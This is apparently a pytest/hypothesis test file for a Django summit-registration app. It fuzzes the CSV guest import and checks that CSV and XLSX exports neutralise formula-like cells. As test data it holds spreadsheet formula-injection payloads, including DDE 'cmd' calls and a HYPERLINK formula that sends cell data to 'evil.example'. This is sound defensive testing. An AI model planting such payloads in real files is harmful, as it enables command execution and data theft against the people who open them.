"""The CSV guest import and the exports against hostile files and cells.

Properties (hypothesis, moderate example counts): whatever the bytes, the import never raises,
answers with errors tied to lines, and writes nothing (no registration, user or enrolment)
unless the file is a valid guest list; the organiser's upload page answers 200 with those
errors, never 500. Exports write formula-like cells as text.
"""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from registration import cells
from registration.imports import OPTIONAL, REQUIRED, import_guests
from registration.models import Enrolment, Registration
from tests import factories

pytestmark = pytest.mark.django_db

FUZZ = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
COLUMNS = list(REQUIRED + OPTIONAL)
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    # No function, but still formulas a spreadsheet evaluates (the cell would show 1, 6…).
    "-2+3",
    "+2*3",
    "=1",
    "-A1",
    "+852 6123 4567",  # as a name: only the phone column may hold a phone number
]


def counts() -> tuple[int, int, int]:
    return (
        Registration.objects.count(),
        get_user_model().objects.count(),
        Enrolment.objects.count(),
    )


def assert_all_or_nothing(result, before: tuple[int, int, int]) -> None:
    """A refused file wrote nothing; an accepted one wrote exactly the guests it reports
    (imported guests have no account until they sign up)."""
    if result.ok:
        assert result.created
        assert counts()[:2] == (before[0] + len(result.created), before[1])
    else:
        assert result.created == []
        assert counts() == before
        assert all(error.line >= 1 and str(error) for error in result.errors)


def is_utf8(data: bytes) -> bool:
    try:
        data.decode("utf-8")
    except UnicodeDecodeError:
        return False
    return True


def as_csv(header: list[str], rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def valid_row(n: int) -> dict[str, str]:
    return {"email": f"guest{n}@example.org", "name": "王伟", "organisation": "国家数据局",
            "region": "mainland"}  # fmt: skip


# --- Strategies ---------------------------------------------------------------------------------

nasty_text = st.one_of(
    st.text(max_size=60),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=60),
    st.sampled_from(FORMULAS),
    st.text(alphabet="\x00\x01\x08\x0b\x1b\x7f\u202e\ufeff ab=", min_size=1, max_size=10),
    st.just("x" * 5000),
)
columns = st.lists(
    st.one_of(st.sampled_from(COLUMNS), st.text(max_size=12)), max_size=16, unique=True
)


@st.composite
def hostile_files(draw) -> bytes:
    """A guest list with at least one defect: a missing column or a bad cell."""
    header = draw(columns)
    rows = draw(st.lists(st.lists(nasty_text, max_size=len(header) + 3), max_size=6))
    if set(REQUIRED) <= set(header):
        # Every required column present: make sure one cell is certainly wrong.
        bad = draw(st.sampled_from([*FORMULAS, "a\x00b", "nowhere", "\x1b[31m"]))
        rows.append([bad if name == "region" else "x" for name in header])
    return as_csv(header, rows)


# --- Properties ---------------------------------------------------------------------------------


@FUZZ
@given(data=st.binary(max_size=2000))
def test_random_bytes_never_crash_or_write(summit, data):
    before = counts()

    result = import_guests(summit, data)

    assert_all_or_nothing(result, before)
    if not is_utf8(data):
        assert [error.line for error in result.errors] == [1]
        assert result.errors[0].reason.startswith("not a UTF-8 CSV file")


@FUZZ
@given(data=hostile_files())
def test_hostile_guest_lists_are_refused_line_by_line(summit, data):
    before = counts()

    result = import_guests(summit, data)

    assert not result.ok
    assert result.created == []
    assert counts() == before
    assert all(str(error).startswith(f"Line {error.line}: ") for error in result.errors)


@FUZZ
@given(
    text=st.text(max_size=200),
    encoding=st.sampled_from(["utf-16", "gb18030", "big5", "latin-1", "utf-32"]),
)
def test_other_encodings_are_refused_clearly(summit, text, encoding):
    header = "email,name,organisation,region\n"
    try:
        data = (header + "陳大文@example.org,陳大文,數字政策辦公室,hong_kong\n" + text).encode(
            encoding
        )
    except UnicodeEncodeError:
        data = (header + text).encode(encoding, "replace")
    before = counts()

    result = import_guests(summit, data)

    assert_all_or_nothing(result, before)
    if not is_utf8(data):  # most often: else the bytes happen to read as UTF-8 as well
        assert [error.line for error in result.errors] == [1]
        assert result.errors[0].reason.startswith("not a UTF-8 CSV file")


@FUZZ
@given(data=st.one_of(st.binary(max_size=1000), hostile_files()))
def test_upload_page_shows_errors_never_500(organiser_client, summit, data):
    before = counts()

    response = organiser_client.post(
        reverse("registration:organiser-guests-import"),
        {"file": SimpleUploadedFile("guests.csv", data, content_type="text/csv")},
    )

    assert response.status_code in {200, 302}
    if response.status_code == 200:
        assert counts() == before
        assert "Line " in response.text or "errorlist" in response.text


# --- The defects one by one ---------------------------------------------------------------------


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_cells_are_refused(summit, formula):
    row = valid_row(1) | {"organisation": formula}

    result = import_guests(summit, as_csv(list(row), [list(row.values())]))

    assert [str(e) for e in result.errors] == [
        f"Line 2: organisation “{formula[:39] + '…' if len(formula) > 40 else formula}” "
        "starts like a spreadsheet formula"
    ]
    assert Registration.objects.count() == 0


@pytest.mark.parametrize(
    ("column", "value"),
    [("name", "王\x00伟"), ("organisation", "Org\x1b[2J"), ("name_latin", "Wang\u202eieW"),
     ("dietary_notes", "nuts\x07")],
)  # fmt: skip
def test_control_characters_are_refused(summit, column, value):
    row = valid_row(1) | {column: value}

    result = import_guests(summit, as_csv(list(row), [list(row.values())]))

    assert [str(e) for e in result.errors] == [
        f"Line 2: {column} contains control characters (such as NUL or escape)"
    ]
    assert Registration.objects.count() == 0


def test_phone_numbers_and_notes_on_several_lines_are_fine(summit):
    row = valid_row(1) | {"phone": "+852 6123 4567", "accessibility_needs": "Wheelchair\nLift"}

    result = import_guests(summit, as_csv(list(row), [list(row.values())]))

    assert result.errors == []
    assert Registration.objects.get().accessibility_needs == "Wheelchair\nLift"


@pytest.mark.parametrize("phone", ["'+852 6123 4567", "+852 6123 4567"])
def test_phone_written_as_text_by_an_export_imports_as_the_number(summit, phone):
    """An export writes "+852…" as "'+852…" (a spreadsheet would compute it): an edited export
    imports into the next summit as the phone number it is."""
    row = valid_row(1) | {"phone": phone}

    result = import_guests(summit, as_csv(list(row), [list(row.values())]))

    assert result.errors == []
    assert Registration.objects.get().phone == "+852 6123 4567"


@pytest.mark.parametrize("phone", ["-2+3", "=1+1", "@A1", "'=1+1"])
def test_formula_in_the_phone_column_is_refused(summit, phone):
    row = valid_row(1) | {"phone": phone}

    result = import_guests(summit, as_csv(list(row), [list(row.values())]))

    assert [e.line for e in result.errors] == [2]
    assert Registration.objects.count() == 0


def test_huge_cells_and_files_are_refused(organiser_client, summit):
    huge_cell = as_csv(["email", "name", "organisation", "region"], [["a@b.org", "x" * 200_000,
                       "Org", "mainland"]])  # fmt: skip
    too_big = b"email,name,organisation,region\n" + b"a@example.org,x,Org,mainland\n" * 200_000

    first = import_guests(summit, huge_cell)
    page = organiser_client.post(
        reverse("registration:organiser-guests-import"),
        {"file": SimpleUploadedFile("guests.csv", too_big, content_type="text/csv")},
    )

    assert not first.ok and first.errors[0].line == 1
    assert page.status_code == 200
    assert "larger than 5 MB" in page.text
    assert Registration.objects.count() == 0


def test_missing_columns_are_named(summit):
    result = import_guests(summit, as_csv(["email", "nickname"], [["a@example.org", "A"]]))

    assert [str(e) for e in result.errors] == [
        "Line 1: missing columns: organisation, region, name / name_latin"
    ]


# --- Exports ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "formula"),
    [("=cmd|' /C calc'!A0", True), ("+cmd|x", True), ("@SUM(A1)", True), ("-2+3+cmd|x", True),
     ("-2+3", True), ("+2*3", True), ("\t=1", True), ("\r-1", True), ("-1e5", True),
     ("+852 6123 4567", True), ("+86", True), ("-(1)", True),
     ("-", False), ("-12.5", False), ("12", False), ("陳大文", False), ("", False),
     ("a-2+3", False), ("'=1", False)],
)  # fmt: skip
def test_looks_like_formula(value, formula):
    assert cells.looks_like_formula(value) is formula


@pytest.fixture
def hostile_guest(summit):
    return factories.RegistrationFactory(
        summit=summit,
        name='=HYPERLINK("http://evil.example","Click")',
        organisation="+cmd|' /C calc'!A0",
        job_title="Head\x01of\x1bIT",
        phone="+852 6123 4567",
        dietary_notes="-2+3",
    )


def test_csv_export_writes_formula_cells_as_text(organiser_client, hostile_guest):
    response = organiser_client.get(reverse("registration:organiser-guests-export", args=["csv"]))

    text = b"".join(response.streaming_content).decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["name"] == '\'=HYPERLINK("http://evil.example","Click")'
    assert row["organisation"] == "'+cmd|' /C calc'!A0"
    assert row["job_title"] == "Head\x01of\x1bIT"
    assert row["phone"] == "'+852 6123 4567"
    assert row["dietary_notes"] == "'-2+3"


def test_xlsx_export_stores_formula_cells_as_text(organiser_client, hostile_guest):
    from openpyxl import load_workbook

    response = organiser_client.get(reverse("registration:organiser-guests-export", args=["xlsx"]))

    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    guest = dict(zip(header, sheet[2], strict=True))
    assert response.status_code == 200
    # Text, marked as typed with a quote: Excel keeps it text when the cell is edited too.
    for column in ("name", "organisation", "phone", "dietary_notes"):
        assert (guest[column].data_type, guest[column].quotePrefix) == ("s", True), column
    assert guest["name"].value == '=HYPERLINK("http://evil.example","Click")'
    assert guest["job_title"].value == "HeadofIT"  # XLSX cannot hold control characters
    assert guest["job_title"].quotePrefix is False
    assert guest["phone"].value == "+852 6123 4567"
    assert guest["dietary_notes"].value == "-2+3"


# --- The registration form ----------------------------------------------------------------------


@FUZZ
@given(
    field=st.sampled_from(["name", "name_latin", "organisation", "job_title", "dietary_notes"]),
    value=st.text(max_size=80),
)
def test_registration_form_refuses_control_characters_and_nothing_else(summit, field, value):
    from registration.forms import RegistrationForm
    from tests.registration.conftest import form_data

    form = RegistrationForm(form_data(**{field: value, "dietary": "other", "dietary_notes": "x"}
                                      if field != "dietary_notes" else {field: value}))  # fmt: skip
    form.is_valid()

    cleaned = value.strip()  # as CharField cleans it; NUL and overlong values fail before
    most = form.fields[field].max_length or len(cleaned)
    refused = cells.has_control_characters(cleaned, multiline=field == "dietary_notes")
    expected = refused and "\x00" not in value and len(cleaned) <= most
    message = "Remove the invisible control characters (such as escape) here."
    assert (message in form.errors.get(field, [])) is expected


@pytest.mark.parametrize("value", ["陳\x1b大文", "Chan\u202eTai", "Chan\x00"])
def test_register_view_refuses_control_characters(client, summit, value):
    from tests.registration.conftest import form_data

    user = factories.UserFactory()
    client.force_login(user)
    response = client.post(reverse("registration:register"), form_data(name=value))

    assert response.status_code == 200
    assert Registration.objects.count() == 0
